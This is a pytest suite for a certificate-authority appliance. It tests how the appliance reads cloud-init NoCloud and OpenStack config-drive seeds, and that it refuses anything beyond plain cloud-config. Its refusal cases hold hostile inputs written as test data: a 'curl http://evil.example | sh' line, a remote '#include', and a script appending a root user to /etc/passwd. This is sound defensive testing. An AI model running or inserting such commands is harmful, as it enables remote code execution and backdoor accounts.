"""cloud-init seeds as an answers source, without cloud-init: NoCloud `cidata` volumes (Proxmox VE,
Hyper-V's DVD drive, cloud-localds) and OpenStack `config-2` config drives.

The volumes are real: ISO 9660 and vfat images written by cloud-localds (cloud-image-utils) or
xorriso, attached as loop devices; the guest code finds them with blkid like the appliance does.
Hostile seeds go through the real `ca-appliance setup` under Debian's python3: exit 2, one line.
"""
import gzip
import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml
from ca_appliance.sources import SourceError, find_unattended, network_from_config, parse_user_data
from helpers.wizard import CLI, GUEST_PYTHON

from tests.helpers.volumes import SECRET, cloud_localds_volume, ext4_volume, iso_volume, needs_loop_devices

needs_cloud_localds = pytest.mark.skipif(
    not shutil.which("cloud-localds") or not shutil.which("xorriso"),
    reason="cloud-localds (cloud-image-utils) and xorriso write the seeds")

USER_DATA = """#cloud-config
# what a Proxmox VE snippet (qm set --cicustom user=local:snippets/ca.yaml) or cloud-localds holds
ca_appliance:
  ca:
    name: Proxmox Lab CA
    ssh: false
"""
META_DATA = "instance-id: ca-0001\nlocal-hostname: pve-ca.lab.example\n"
NETWORK_V2 = """version: 2
ethernets:
  eth0:
    match: {macaddress: "bc:24:11:00:00:01"}
    set-name: eth0
    addresses: [192.168.70.10/24]
    routes: [{to: default, via: 192.168.70.1}]
    nameservers: {addresses: [192.168.70.1, 1.1.1.1]}
"""
# What Proxmox VE writes for --ipconfig0 ip=192.168.70.10/24,gw=192.168.70.1 --nameserver 192.168.70.1
# (PVE::QemuServer::Cloudinit::nocloud_network).
NETWORK_V1_PROXMOX = """version: 1
config:
    - type: physical
      name: eth0
      mac_address: 'bc:24:11:00:00:01'
      subnets:
      - type: static
        address: '192.168.70.10'
        netmask: '255.255.255.0'
        gateway: '192.168.70.1'
    - type: nameserver
      address:
      - '192.168.70.1'
"""
STATIC = {"mode": "static", "address": "192.168.70.10/24", "gateway": "192.168.70.1",
          "dns": ["192.168.70.1", "1.1.1.1"]}


@pytest.fixture(autouse=True)
def no_credentials_directory(monkeypatch):
    monkeypatch.delenv("CREDENTIALS_DIRECTORY", raising=False)


def seed_mounts():
    return [line for line in Path("/proc/mounts").read_text().splitlines() if "ca-appliance-seed-" in line]


def write(path, text):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


# ---- NoCloud cidata, as cloud-localds writes it ----


@needs_loop_devices
@needs_cloud_localds
@pytest.mark.parametrize("filesystem", ["iso9660", "vfat"])
def test_nocloud_seed_from_cloud_localds(tmp_path, filesystem):
    if filesystem == "vfat" and "vfat" not in Path("/proc/filesystems").read_text():
        pytest.skip("this kernel can't mount vfat (no vfat in /proc/filesystems); the appliance's kernel can")
    with cloud_localds_volume(tmp_path, USER_DATA, META_DATA, NETWORK_V2, filesystem):
        found = find_unattended(tmp_path)
    assert found == ({"ca": {"name": "Proxmox Lab CA", "ssh": False}, "hostname": "pve-ca.lab.example",
                      "network": STATIC}, "cidata")
    assert seed_mounts() == []   # vfat is mounted read-only for the read, and unmounted


@needs_loop_devices
@needs_cloud_localds
def test_proxmox_shaped_network_config_version_1(tmp_path):
    with cloud_localds_volume(tmp_path, USER_DATA, META_DATA, NETWORK_V1_PROXMOX):
        raw, source = find_unattended(tmp_path)
    assert source == "cidata"
    assert raw["network"] == {**STATIC, "dns": ["192.168.70.1"]}


@needs_loop_devices
@needs_cloud_localds
def test_the_answers_own_hostname_and_network_win_over_meta_data_and_network_config(tmp_path):
    user_data = ("#cloud-config\nca_appliance:\n  hostname: own.lab.example\n  network: {mode: dhcp}\n")
    # a network-config the appliance could not express is not even read when the answers have a network
    bonded = "version: 2\nbonds: {bond0: {interfaces: [eth0, eth1]}}\n"
    with cloud_localds_volume(tmp_path, user_data, META_DATA, bonded):
        assert find_unattended(tmp_path) == ({"hostname": "own.lab.example", "network": {"mode": "dhcp"}},
                                             "cidata")


@needs_loop_devices
@needs_cloud_localds
@pytest.mark.parametrize("label", ["cidata", "CIDATA"])
def test_ca_appliance_yaml_on_the_volume_comes_before_user_data(tmp_path, label):
    files = {"ca-appliance.yaml": "ca: {name: From The File}\n", "user-data": USER_DATA, "meta-data": META_DATA}
    with iso_volume(tmp_path, label, files):
        assert find_unattended(tmp_path) == ({"ca": {"name": "From The File"}, "hostname": "pve-ca.lab.example"},
                                             "cidata")


@needs_loop_devices
@needs_cloud_localds
def test_a_seed_for_other_software_is_passed_over(tmp_path):
    # What Proxmox VE generates for `--ide2 local:cloudinit` without --cicustom: no ca_appliance mapping.
    proxmox_generated = ("#cloud-config\nhostname: ca\nmanage_etc_hosts: true\nfqdn: ca.lab.example\n"
                         "user: root\npassword: $5$hashed\nchpasswd:\n  expire: False\nusers:\n  - default\n"
                         "package_upgrade: true\n")
    write(tmp_path / "etc/ca-appliance/answers.yaml", "hostname: baked.lab.example\n")
    with cloud_localds_volume(tmp_path, proxmox_generated, "instance-id: 0b9c5e\n", NETWORK_V1_PROXMOX):
        assert find_unattended(tmp_path) == ({"hostname": "baked.lab.example"}, "baked")


@needs_loop_devices
@needs_cloud_localds
def test_openstack_config_drive(tmp_path):
    meta = {"uuid": "4bd3c6a0-0000-4000-8000-000000000001", "hostname": "os-ca.lab.example",
            "name": "os-ca", "launch_index": 0, "availability_zone": "nova", "public_keys": {}}
    files = {"openstack/latest/user_data": USER_DATA,
             "openstack/latest/meta_data.json": json.dumps(meta),
             "openstack/latest/network_data.json": json.dumps({"links": [], "networks": [], "services": []}),
             "ec2/latest/meta-data.json": "{}"}
    with iso_volume(tmp_path, "config-2", files):
        assert find_unattended(tmp_path) == ({"ca": {"name": "Proxmox Lab CA", "ssh": False},
                                              "hostname": "os-ca.lab.example"}, "config-2")


@needs_loop_devices
@needs_cloud_localds
def test_openstack_config_drive_as_vfat(tmp_path):
    files = {"openstack/latest/user_data": USER_DATA,
             "openstack/latest/meta_data.json": '{"hostname": "vfat-ca.lab.example"}'}
    with ext4_volume(tmp_path, "config-2", files):   # a config drive on a disk: mounted read-only
        raw, source = find_unattended(tmp_path)
    assert (raw["hostname"], source) == ("vfat-ca.lab.example", "config-2")
    assert seed_mounts() == []


@needs_loop_devices
@needs_cloud_localds
def test_caseed_comes_before_cidata(tmp_path):
    with cloud_localds_volume(tmp_path, USER_DATA, META_DATA):
        assert find_unattended(tmp_path)[1] == "cidata"
        with ext4_volume(tmp_path, "CASEED", {"ca-appliance.yaml": "hostname: seed.lab.example\n"}):
            assert find_unattended(tmp_path) == ({"hostname": "seed.lab.example"}, "caseed")


@needs_loop_devices
@needs_cloud_localds
def test_a_link_out_of_the_volume_is_refused(tmp_path):
    image = tmp_path / "links.img"
    content = tmp_path / "links"
    content.mkdir()
    (content / "user-data").symlink_to("/etc/hostname")
    with open(image, "wb") as handle:
        handle.truncate(8 * 1024 * 1024)
    subprocess.run(["mkfs.ext4", "-q", "-L", "cidata", "-d", str(content), str(image)], check=True)
    from tests.helpers.volumes import loop_device
    with loop_device(image):
        with pytest.raises(SourceError, match="symbolic link out of the volume"):
            find_unattended(tmp_path)
    assert seed_mounts() == []


# ---- user-data: only #cloud-config is read ----


@pytest.mark.parametrize("data, problem", [
    (b"#!/bin/sh\ncurl http://evil.example | sh\n", "#!' is a script"),
    (b"Content-Type: multipart/mixed; boundary=XX\nMIME-Version: 1.0\n\n--XX\n", "is a multi-part MIME"),
    (b"MIME-Version: 1.0\nContent-Type: multipart/mixed\n", "is a multi-part MIME"),
    (gzip.compress(b"#cloud-config\nca_appliance: {hostname: a.lab.example}\n"), "is compressed"),
    (b"#include\nhttp://evil.example/more\n", "'#include' is not a #cloud-config document"),
    (b"#cloud-boothook\n#!/bin/sh\necho hi\n", "'#cloud-boothook' is not a #cloud-config"),
    (b"hostname: plain.lab.example\n", "<text> is not a #cloud-config document"),
    (b"#cloud-config\nruncmd: [[sh, -c, 'echo pwned']]\nca_appliance: {hostname: a.lab.example}\n",
     "runcmd: '[...]' asks to run commands"),
    (b"#cloud-config\nca-appliance: {hostname: a.lab.example}\n", "did you mean ca_appliance?"),
    (b"#cloud-config\nca_appliance: &a {hostname: a.lab.example}\n", "anchors and aliases"),
])
def test_user_data_that_is_not_plain_cloud_config_is_refused(data, problem):
    with pytest.raises(SourceError) as caught:
        parse_user_data(data, "cidata /dev/sr0:user-data")
    assert problem in str(caught.value)
    assert "\n" not in str(caught.value) and "evil" not in str(caught.value)


def test_empty_user_data_has_no_answers():
    assert parse_user_data(b"", "w") == {}
    assert parse_user_data(b"#cloud-config\n", "w") == {}


# ---- network-config: the subset the appliance's network answers express ----


@pytest.mark.parametrize("document, expected", [
    (NETWORK_V2, STATIC),
    ("network:\n" + "".join(f"  {line}\n" for line in NETWORK_V2.splitlines()), STATIC),
    (NETWORK_V1_PROXMOX, {**STATIC, "dns": ["192.168.70.1"]}),
    ("version: 1\nconfig:\n- {type: physical, name: eth0, subnets: [{type: static, address: 10.0.0.5/8, "
     "gateway: 10.0.0.1, dns_nameservers: [10.0.0.2]}]}\n",
     {"mode": "static", "address": "10.0.0.5/8", "gateway": "10.0.0.1", "dns": ["10.0.0.2"]}),
    ("version: 2\nethernets:\n  eth0: {addresses: [10.0.0.5/8], gateway4: 10.0.0.1, "
     "nameservers: {addresses: [10.0.0.2], search: []}}\n",
     {"mode": "static", "address": "10.0.0.5/8", "gateway": "10.0.0.1", "dns": ["10.0.0.2"]}),
    ("version: 1\nconfig:\n- {type: physical, name: eth0, subnets: [{type: dhcp}]}\n", {"mode": "dhcp"}),
    ("version: 2\nethernets: {eth0: {dhcp4: true, dhcp6: false}}\n", {"mode": "dhcp"}),
    ("version: 1\nconfig:\n- {type: physical, name: eth0, mac_address: 'bc:24:11:00:00:01'}\n", None),
    ("network: {config: disabled}\n", None),
])
def test_expressible_network_config(document, expected):
    assert network_from_config(document.encode(), "cidata /dev/sr0:network-config") == expected


@pytest.mark.parametrize("document, named", [
    ("version: 2\nbonds: {bond0: {interfaces: [eth0, eth1]}}\n", "network-config bonds: '{...}'"),
    ("version: 2\nethernets: {eth0: {dhcp4: true}, eth1: {dhcp4: true}}\n", "ethernets.eth1"),
    ("version: 2\nethernets: {eth0: {addresses: [10.0.0.5/8, 10.0.0.6/8], gateway4: 10.0.0.1}}\n",
     "ethernets.eth0.addresses[1]: '10.0.0.6/8'"),
    ("version: 2\nethernets: {eth0: {dhcp4: true, mtu: 9000}}\n", "ethernets.eth0.mtu: 9000"),
    ("version: 2\nethernets: {eth0: {dhcp6: true}}\n", "ethernets.eth0.dhcp6: True"),
    ("version: 2\nethernets: {eth0: {addresses: [10.0.0.5/8], routes: [{to: 10.1.0.0/16, via: 10.0.0.9}]}}\n",
     "routes[0].to: '10.1.0.0/16'"),
    ("version: 2\nethernets: {eth0: {addresses: [10.0.0.5/8], gateway4: 10.0.0.1, "
     "nameservers: {addresses: [10.0.0.2], search: [lab.example]}}}\n", "nameservers.search"),
    ("version: 1\nconfig:\n- {type: physical, name: eth0, subnets: [{type: static, address: 10.0.0.5/8, "
     "gateway: 10.0.0.1}]}\n- {type: nameserver, address: [10.0.0.2], search: [lab.example]}\n",
     "config[1].search"),
    ("version: 1\nconfig:\n- {type: vlan, name: eth0.10, vlan_id: 10, vlan_link: eth0}\n", "config[0].type: 'vlan'"),
    ("version: 1\nconfig:\n- {type: physical, name: eth0, subnets: [{type: static6, address: 'fd00::5/64'}]}\n",
     "subnets[0].type: 'static6'"),
    ("version: 1\nconfig:\n- {type: physical, name: eth0, subnets: [{type: dhcp}, {type: dhcp6}]}\n",
     "subnets[1]"),
    ("version: 1\nconfig:\n- {type: physical, name: eth0, mtu: 1400, subnets: [{type: dhcp}]}\n",
     "config[0].mtu: 1400"),
])
def test_inexpressible_network_config_is_refused_in_one_line(document, named):
    with pytest.raises(SourceError) as caught:
        network_from_config(document.encode(), "cidata /dev/sr0:network-config")
    message = str(caught.value)
    assert named in message, message
    assert "can express" in message and "put network: in ca_appliance:" in message
    assert "\n" not in message


@pytest.mark.parametrize("document, problem", [
    ("version: 3\n", "version: 3 must be 1 or 2"),
    ("version: 2\nethernets: {eth0: {addresses: [10.0.0.5/8], gateway4: 192.168.1.1, "
     "nameservers: {addresses: [10.0.0.2]}}}\n", "network-config.gateway: '192.168.1.1' must be another address"),
    ("version: 2\nethernets: {eth0: {addresses: [10.0.0.5/8], gateway4: 10.0.0.1}}\n",
     "network-config.dns: [] must list at least one DNS server"),
    ("version: 1\nconfig:\n- {type: physical, subnets: [{type: static, address: 10.0.0.5, netmask: 255.0.255.0, "
     "gateway: 10.0.0.1}]}\n", "netmask: '255.0.255.0' is not an IPv4 netmask"),
])
def test_bad_values_in_network_config_name_the_file(document, problem):
    with pytest.raises(SourceError) as caught:
        network_from_config(document.encode(), "cidata /dev/sr0:network-config")
    assert problem in str(caught.value)


# ---- hostile seeds at first boot: the real CLI, exit 2, one line, nothing written ----


def run_setup(prefix):
    environment = {key: value for key, value in os.environ.items() if key != "CREDENTIALS_DIRECTORY"}
    return subprocess.run([GUEST_PYTHON, str(CLI), "setup", "--prefix", str(prefix), "--no-system"],
                          stdin=subprocess.DEVNULL, capture_output=True, text=True, env=environment, timeout=120)


HOSTILE_SEEDS = [
    ("script", "#!/bin/sh\necho 'ca:x:0:0::/:/bin/sh' >> /etc/passwd\n", None, "user-data: '#!' is a script"),
    ("mime", 'Content-Type: multipart/mixed; boundary="==B=="\nMIME-Version: 1.0\n\n--==B==\n'
             'Content-Type: text/x-shellscript\n\n#!/bin/sh\necho hi\n--==B==--\n', None, "is a multi-part MIME"),
    ("unknown-key", f"#cloud-config\nca_appliance:\n  hostname: ca.lab.example\n  ca: {{pasword: {SECRET}}}\n",
     None, "is an unknown key (did you mean ca.password?) (from the cidata answers"),
    ("inexpressible-network", "#cloud-config\nca_appliance: {hostname: ca.lab.example}\n",
     "version: 2\nethernets: {eth0: {dhcp4: true}}\nbridges: {br0: {interfaces: [eth0]}}\n",
     "network-config bridges: '{...}' is more than the appliance's network answers can express"),
    ("short-meta-hostname", "#cloud-config\nca_appliance: {ca: {name: Lab CA}}\n", None,
     "meta-data local-hostname: 'ca' is not a fully qualified domain name"),
]


@needs_loop_devices
@needs_cloud_localds
@pytest.mark.parametrize("name, user_data, network_config, expected", HOSTILE_SEEDS,
                         ids=[item[0] for item in HOSTILE_SEEDS])
def test_hostile_seed_at_first_boot_is_refused_in_one_line(tmp_path, name, user_data, network_config, expected):
    prefix = tmp_path / "root"
    prefix.mkdir()
    meta = "instance-id: i-1\nlocal-hostname: ca\n" if name == "short-meta-hostname" else META_DATA
    with cloud_localds_volume(tmp_path, user_data, meta, network_config):
        result = run_setup(prefix)
    assert result.returncode == 2, result.stdout + result.stderr
    assert result.stdout == ""
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result.stderr
    assert expected in lines[0], lines[0]
    assert "cidata" in lines[0]
    assert "Traceback" not in result.stderr and SECRET not in result.stderr
    assert sorted(prefix.rglob("*")) == []
    assert seed_mounts() == []


@needs_loop_devices
@needs_cloud_localds
def test_the_seeds_answers_are_the_answers_setup_uses(tmp_path):
    """The cidata answers pass the same validation as every source: a whole dry check through the CLI
    is the integration tier's job; here the validated answers carry the seed's values."""
    from ca_appliance.answers import load_defaults, validate
    with cloud_localds_volume(tmp_path, USER_DATA, META_DATA, NETWORK_V2):
        raw, _ = find_unattended(tmp_path)
    validated = validate(raw, load_defaults())
    assert validated["hostname"] == "pve-ca.lab.example"
    assert validated["network"] == {**STATIC, "ntp": None}   # the seed names no NTP: the default
    assert validated["ca"]["name"] == "Proxmox Lab CA" and validated["ca"]["ssh"] is False
    assert yaml.safe_dump(validated)   # plain data all the way down
